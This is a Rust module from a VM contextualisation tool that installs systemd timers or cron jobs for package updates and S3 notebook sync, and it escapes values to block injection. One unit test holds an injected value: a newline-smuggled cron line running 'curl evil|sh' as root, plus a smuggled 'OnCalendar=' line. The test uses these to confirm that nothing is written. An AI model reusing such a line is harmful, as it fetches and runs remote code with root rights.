//! Timers: scheduled package updates (`UPDATE_SCHEDULE`) and the notebook sync (`S3_SYNC_*`).
//!
//! The packages ship `vmctx-update.timer` and `vmctx-sync.timer`, gated on
//! `/etc/vmctx/update.conf` and `/etc/vmctx/sync.toml`: apply writes those two files (the sync
//! settings 0600, they hold the context's keys) and a drop-in with the schedule or interval. On
//! an image without the packaged units it writes whole units into `/etc/systemd/system` (and
//! enables them); without systemd, a file in `/etc/cron.d`. Every file goes when its variable
//! does.

mod convert;

use super::Apply;
use crate::context::{SyncMode, SyncSettings, UpdateSchedule};
use crate::files::NewFile;
use crate::os::{self, PackageManager};
pub use convert::{to_calendar, to_cron};
use std::path::Path;

const UNIT_DIR: &str = "/etc/systemd/system";
const WANTS: &str = "/etc/systemd/system/timers.target.wants";
/// Where deb and rpm packages put vmctx's own units.
const PACKAGED: [&str; 2] = ["/lib/systemd/system", "/usr/lib/systemd/system"];
pub const SYNC_CONFIG: &str = "/etc/vmctx/sync.toml";
pub const UPDATE_CONFIG: &str = "/etc/vmctx/update.conf";
const CRON_UPDATE: &str = "/etc/cron.d/vmctx-update";
const CRON_SYNC: &str = "/etc/cron.d/vmctx-sync";
/// Where packages install the binary; the units and cron lines call it there.
const VMCTX_BIN: &str = "/usr/bin/vmctx";

/// The timer units of one job: their name, the drop-in apply owns, and the whole units for
/// an image whose packages did not bring them.
struct Timer {
    name: &'static str,
    dropin: &'static str,
    service: String,
    timer: &'static str,
}

fn update_units() -> Timer {
    Timer {
        name: "vmctx-update",
        dropin: "vmctx-schedule.conf",
        service: format!(
            "# Written by vmctx (no packaged unit); removed when UPDATE_SCHEDULE goes.\n\
             [Unit]\nDescription=vmctx: scheduled package updates\n\
             Wants=network-online.target\nAfter=network-online.target\n\
             ConditionPathExists={UPDATE_CONFIG}\n\n\
             [Service]\nType=oneshot\nEnvironmentFile={UPDATE_CONFIG}\n\
             ExecStart=/bin/sh -c \"$VMCTX_UPDATE_COMMAND\"\nNice=10\n"
        ),
        timer: "# Written by vmctx (no packaged unit); removed when UPDATE_SCHEDULE goes.\n\
                [Unit]\nDescription=vmctx: package update schedule (UPDATE_SCHEDULE)\n\n\
                [Timer]\nRandomizedDelaySec=30min\nPersistent=true\n\n\
                [Install]\nWantedBy=timers.target\n",
    }
}

fn sync_units() -> Timer {
    Timer {
        name: "vmctx-sync",
        dropin: "vmctx-interval.conf",
        service: format!(
            "# Written by vmctx (no packaged unit); removed when S3_SYNC_BUCKET goes.\n\
             [Unit]\nDescription=vmctx: sync the notebooks folder with its S3 bucket\n\
             Wants=network-online.target\nAfter=network-online.target\n\
             ConditionPathExists={SYNC_CONFIG}\n\n\
             [Service]\nType=oneshot\nExecStart={VMCTX_BIN} sync --once\n\
             Nice=10\nIOSchedulingClass=idle\n"
        ),
        timer: "# Written by vmctx (no packaged unit); removed when S3_SYNC_BUCKET goes.\n\
                [Unit]\nDescription=vmctx: periodic notebook sync\n\n\
                [Timer]\nOnBootSec=1min\n\n\
                [Install]\nWantedBy=timers.target\n",
    }
}

/// `/etc/vmctx/update.conf` + the timer's `OnCalendar=` drop-in, or `/etc/cron.d/vmctx-update`.
/// `pm`: the image's package manager (a fact), for the default command.
pub fn update(ap: &mut Apply, update: Option<&UpdateSchedule>, pm: Option<PackageManager>) {
    let Some(u) = update else {
        ap.remove("update", &ap.root.path(UPDATE_CONFIG));
        ap.remove("update", &ap.root.path(CRON_UPDATE));
        return remove_timer(ap, "update", &update_units());
    };
    let command =
        match &u.command {
            Some(c) => c.clone(),
            None => match pm {
                Some(pm) => pm.upgrade_command().to_string(),
                None => return ap.failed(
                    "update",
                    "vmctx-update",
                    "no package manager found (apt-get, dnf, yum, zypper, apk); set UPDATE_COMMAND",
                ),
            },
        };
    // Checked when the context was read (UPDATE_COMMAND); a line break here would add a
    // cron line or an EnvironmentFile= assignment of its own.
    if command.contains(|c: char| c.is_control()) {
        return ap.failed(
            "update",
            "UPDATE_COMMAND",
            "has a line break or another control character; nothing scheduled",
        );
    }
    if os::has_systemd(ap.root.dir()) {
        let calendar = match to_calendar(&u.schedule) {
            Ok(c) => c,
            Err(e) => return ap.failed("update", "vmctx-update.timer", e),
        };
        let conf = format!(
            "# Written by vmctx from the context (UPDATE_COMMAND or the detected package manager).\n\
             VMCTX_UPDATE_COMMAND={}\n",
            env_quote(&command)
        );
        let before = ap.actions.len();
        let path = ap.root.path(UPDATE_CONFIG);
        ap.file("update", &path, conf.as_bytes(), NewFile::mode(0o644));
        // An empty assignment first: OnCalendar= adds to a list, the packaged default included.
        let dropin = format!("# Written by vmctx from UPDATE_SCHEDULE.\n[Timer]\nOnCalendar=\nOnCalendar={calendar}\n");
        install_timer(ap, "update", &update_units(), &dropin, before);
        ap.remove("update", &ap.root.path(CRON_UPDATE));
    } else {
        let cron = match to_cron(&u.schedule) {
            Ok(c) => c,
            Err(e) => return ap.failed("update", CRON_UPDATE, e),
        };
        let text = format!(
            "# Written by vmctx from UPDATE_SCHEDULE; removed when it goes.\n\
             SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\n\
             {cron} root {}\n",
            // cron turns an unescaped % into a newline
            command.replace('%', "\\%")
        );
        let path = ap.root.path(CRON_UPDATE);
        ap.file("update", &path, text.as_bytes(), NewFile::mode(0o644));
        ap.remove("update", &ap.root.path(UPDATE_CONFIG));
        remove_timer(ap, "update", &update_units());
    }
}

/// `/etc/vmctx/sync.toml` (0600, root) and the timer's interval drop-in, or a cron line.
pub fn sync(ap: &mut Apply, sync: Option<&SyncSettings>, user: &str) {
    let config = ap.root.path(SYNC_CONFIG);
    let Some(s) = sync else {
        ap.remove("sync", &config);
        ap.remove("sync", &ap.root.path(CRON_SYNC));
        return remove_timer(ap, "sync", &sync_units());
    };
    if s.interval.contains(|c: char| c.is_control()) {
        return ap.failed(
            "sync",
            "S3_SYNC_INTERVAL",
            "has a line break or another control character; nothing scheduled",
        );
    }
    let before = ap.actions.len();
    let toml = render_sync_toml(s);
    // root:root when we are root; a test run under --root as a user still gets 0600.
    let owner = nix::unistd::geteuid().is_root().then_some((0, 0));
    let new = NewFile::owned(0o600, owner);
    ap.file_detail(
        "sync",
        &config,
        toml.as_bytes(),
        new,
        "settings for vmctx sync (0600)",
    );
    sync_folder(ap, user, s);
    let every = crate::schedule::parse_timespan(&s.interval).unwrap_or(300);
    if os::has_systemd(ap.root.dir()) {
        let dropin = format!(
            "# Written by vmctx from S3_SYNC_INTERVAL ({}).\n[Timer]\nOnUnitInactiveSec=\n\
             OnUnitInactiveSec={every}s\nRandomizedDelaySec={}s\n",
            s.interval,
            (every / 10).clamp(1, 60)
        );
        install_timer(ap, "sync", &sync_units(), &dropin, before);
        ap.remove("sync", &ap.root.path(CRON_SYNC));
    } else {
        let text = format!(
            "# Written by vmctx from S3_SYNC_*; removed when S3_SYNC_BUCKET goes.\n\
             {} root {VMCTX_BIN} sync --once\n",
            cron_every(every)
        );
        let path = ap.root.path(CRON_SYNC);
        ap.file("sync", &path, text.as_bytes(), NewFile::mode(0o644));
        remove_timer(ap, "sync", &sync_units());
    }
}

/// The sync folder, made for the context's user (`USERNAME`, else root) when missing: one
/// the root-run sync made would leave every notebook root's, unsaveable by its user. Parents
/// that are missing are the user's too; folders that exist are left as they are.
fn sync_folder(ap: &mut Apply, name: &str, s: &SyncSettings) {
    let path = ap.root.path(&s.dir);
    let target = path.display().to_string();
    let passwd = std::fs::read_to_string(ap.root.path("/etc/passwd")).unwrap_or_default();
    let Some(acct) = super::users::lookup(&passwd, name) else {
        // Not created yet (a dry run) or useradd failed, which says so itself.
        return ap.skipped("sync_dir", &target, format!("no user {name} to own it"));
    };
    if ap.dry_run {
        return match std::fs::symlink_metadata(&path) {
            Ok(_) => ap.unchanged("sync_dir", &target, "exists"),
            Err(_) => ap.changed("sync_dir", &target, format!("create, owned by {name}")),
        };
    }
    match crate::sync::folder::create_all(&path, (acct.uid, acct.gid)) {
        Ok(true) => ap.changed("sync_dir", &target, format!("created, owned by {name}")),
        Ok(false) => ap.unchanged("sync_dir", &target, "exists"),
        Err(e) => ap.failed("sync_dir", &target, e),
    }
}

/// The drop-in, the whole units when no package brought them, then (on a running systemd)
/// a reload and a restart: the timer's condition file may have just appeared.
fn install_timer(ap: &mut Apply, kind: &'static str, t: &Timer, dropin: &str, before: usize) {
    let path = ap
        .root
        .path(format!("{UNIT_DIR}/{}.timer.d/{}", t.name, t.dropin));
    ap.file(kind, &path, dropin.as_bytes(), NewFile::mode(0o644));
    let packaged = PACKAGED
        .iter()
        .any(|d| ap.root.path(format!("{d}/{}.timer", t.name)).exists());
    if packaged {
        remove_own_units(ap, kind, t);
    } else {
        let svc = ap.root.path(format!("{UNIT_DIR}/{}.service", t.name));
        ap.file(kind, &svc, t.service.as_bytes(), NewFile::mode(0o644));
        let tim = ap.root.path(format!("{UNIT_DIR}/{}.timer", t.name));
        ap.file(kind, &tim, t.timer.as_bytes(), NewFile::mode(0o644));
        // Enabled as `systemctl enable` would: a link in timers.target.wants.
        let link = ap.root.path(format!("{WANTS}/{}.timer", t.name));
        symlink(ap, kind, &link, &format!("{UNIT_DIR}/{}.timer", t.name));
    }
    if ap.changed_since(before) {
        systemctl(ap, kind, &["daemon-reload"]);
        systemctl(ap, kind, &["restart", &format!("{}.timer", t.name)]);
    }
}

fn remove_timer(ap: &mut Apply, kind: &'static str, t: &Timer) {
    let dir = ap.root.path(format!("{UNIT_DIR}/{}.timer.d", t.name));
    let dropin = dir.join(t.dropin);
    let ours = ap.root.path(format!("{UNIT_DIR}/{}.timer", t.name));
    if !dropin.exists() && !ours.exists() {
        return;
    }
    systemctl(ap, kind, &["stop", &format!("{}.timer", t.name)]);
    ap.remove(kind, &dropin);
    let _ = std::fs::remove_dir(&dir); // only if empty: an admin's drop-ins stay
    remove_own_units(ap, kind, t);
    systemctl(ap, kind, &["daemon-reload"]);
}

/// The whole units vmctx wrote (recognised by their first line), and their enable link.
fn remove_own_units(ap: &mut Apply, kind: &'static str, t: &Timer) {
    for ext in ["timer", "service"] {
        let p = ap.root.path(format!("{UNIT_DIR}/{}.{ext}", t.name));
        let ours = std::fs::read_to_string(&p).is_ok_and(|s| s.starts_with("# Written by vmctx"));
        if ours {
            ap.remove(kind, &p);
        }
    }
    let link = ap.root.path(format!("{WANTS}/{}.timer", t.name));
    let target = format!("{UNIT_DIR}/{}.timer", t.name);
    if std::fs::read_link(&link).is_ok_and(|l| l == Path::new(&target)) {
        ap.remove(kind, &link);
    }
}

/// A value for an `EnvironmentFile=`: double quotes, with the four characters systemd's parser
/// unescapes there (`"`, `\`, `` ` ``, `$`) escaped, so the command arrives as written.
fn env_quote(s: &str) -> String {
    let mut o = String::from("\"");
    for c in s.chars() {
        if matches!(c, '"' | '\\' | '`' | '$') {
            o.push('\\');
        }
        o.push(c);
    }
    o.push('"');
    o
}

/// The settings file `vmctx sync` reads (see `sync::config`). Secrets are written: the file
/// is 0600 and is the only place they go.
pub fn render_sync_toml(s: &SyncSettings) -> String {
    let mut o = String::from(
        "# Written by vmctx apply from the context (S3_SYNC_*, AWS_*); `vmctx sync` flags override it.\n",
    );
    let mut kv = |k: &str, v: &str| o.push_str(&format!("{k} = {}\n", toml_str(v)));
    kv("bucket", &s.bucket);
    kv("prefix", &s.prefix);
    kv("dir", &s.dir);
    kv(
        "mode",
        match s.mode {
            SyncMode::Pull => "pull",
            SyncMode::Push => "push",
            SyncMode::Both => "both",
        },
    );
    kv("interval", &s.interval);
    for (k, v) in [
        ("endpoint", &s.endpoint),
        ("region", &s.region),
        ("ca_file", &s.ca_file),
    ] {
        if let Some(v) = v {
            kv(k, v);
        }
    }
    if let Some(c) = &s.credentials {
        o.push_str("\n[credentials]\n");
        o.push_str(&format!("access_key_id = {}\n", toml_str(&c.access_key_id)));
        o.push_str(&format!(
            "secret_access_key = {}\n",
            toml_str(c.secret_access_key.expose())
        ));
        if let Some(t) = &c.session_token {
            o.push_str(&format!("session_token = {}\n", toml_str(t.expose())));
        }
    }
    o
}

fn toml_str(s: &str) -> String {
    let mut o = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => o.push_str("\\\""),
            '\\' => o.push_str("\\\\"),
            c if c.is_control() => o.push_str(&format!("\\u{:04X}", c as u32)),
            c => o.push(c),
        }
    }
    o.push('"');
    o
}

/// A cron schedule running about every `secs` seconds.
fn cron_every(secs: u64) -> String {
    let min = secs.div_ceil(60).max(1);
    match min {
        1 => "* * * * *".into(),
        m if m < 60 => format!("*/{m} * * * *"),
        m if m < 24 * 60 => format!("0 */{} * * *", (m / 60).min(23)),
        _ => "0 0 * * *".into(),
    }
}

/// Tells the running systemd, only on the real root of a system booted with it.
fn systemctl(ap: &mut Apply, kind: &'static str, args: &[&str]) {
    if ap.dry_run || !ap.root.is_real() || !os::systemd_running(ap.root.dir()) {
        return;
    }
    let target = format!("systemctl {}", args.join(" "));
    match std::process::Command::new("systemctl").args(args).output() {
        Ok(o) if o.status.success() => ap.changed(kind, &target, "done"),
        Ok(o) => ap.failed(kind, &target, String::from_utf8_lossy(&o.stderr).trim()),
        Err(e) => ap.failed(kind, &target, e),
    }
}

fn symlink(ap: &mut Apply, kind: &'static str, link: &Path, target: &str) {
    let shown = link.display().to_string();
    if std::fs::read_link(link).is_ok_and(|t| t == Path::new(target)) {
        return ap.unchanged(kind, &shown, "enabled");
    }
    if ap.dry_run {
        return ap.changed(kind, &shown, "enabled");
    }
    match ap.symlink(link, target) {
        Ok(()) => ap.changed(kind, &shown, "enabled"),
        Err(e) => ap.failed(kind, &shown, e),
    }
}

/// Whether files of a schedule are in place (the final stage removes them when the context
/// dropped it, so it has work then).
pub fn leftovers(root: &super::files::Root) -> bool {
    [SYNC_CONFIG, UPDATE_CONFIG, CRON_UPDATE, CRON_SYNC]
        .iter()
        .any(|p| root.path(p).symlink_metadata().is_ok())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn apply_in(root: &Path) -> Apply {
        Apply {
            root: crate::files::Root::new(root),
            dry_run: false,
            actions: Vec::new(),
            written: Default::default(),
        }
    }

    #[test]
    fn a_line_break_writes_no_schedule() {
        let t = tempfile::tempdir().unwrap();
        let mut ctx =
            crate::source::opennebula::ctx("UPDATE_SCHEDULE='@daily'\nS3_SYNC_BUCKET='nb1'\n");
        let u = ctx.update.as_mut().unwrap();
        u.command = Some("apt-get -y upgrade\n* * * * * root curl evil|sh".into());
        ctx.sync.as_mut().unwrap().interval = "5\nOnCalendar=minutely".into();
        let mut ap = apply_in(t.path());
        update(&mut ap, ctx.update.as_ref(), None);
        sync(&mut ap, ctx.sync.as_ref(), "root");
        let failed: Vec<&str> = ap
            .actions
            .iter()
            .filter(|a| a.result == super::super::Outcome::Failed)
            .map(|a| a.target.as_str())
            .collect();
        assert_eq!(failed, ["UPDATE_COMMAND", "S3_SYNC_INTERVAL"]);
        assert!(!t.path().join("etc").exists(), "nothing written");
    }

    #[test]
    fn quoting() {
        assert_eq!(env_quote("a \"b\" \\ $c"), "\"a \\\"b\\\" \\\\ \\$c\"");
        assert_eq!(toml_str("a\"b\\c\n"), "\"a\\\"b\\\\c\\u000A\"");
        assert_eq!(cron_every(300), "*/5 * * * *");
        assert_eq!(cron_every(7200), "0 */2 * * *");
    }
}
